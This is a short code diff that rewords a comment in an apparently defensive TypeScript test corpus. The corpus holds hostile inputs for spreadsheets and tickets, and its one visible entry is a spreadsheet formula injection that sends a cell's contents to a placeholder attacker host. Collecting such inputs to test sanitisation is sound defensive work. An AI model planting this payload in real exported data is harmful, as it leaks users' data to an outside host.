@@ -32,7 +32,7 @@ const order = (written: string) =>
   );
 
 /**
- * Texts that a spreadsheet would calculate, that turn the text around them, or that pass for lines of the ticket's own.
+ * Texts that a spreadsheet would calculate, that reverse the text around them, or that pass for lines of the ticket.
  */
 const corpus = [
   '=HYPERLINK("http://evil.example/?"&A1,"Total")',
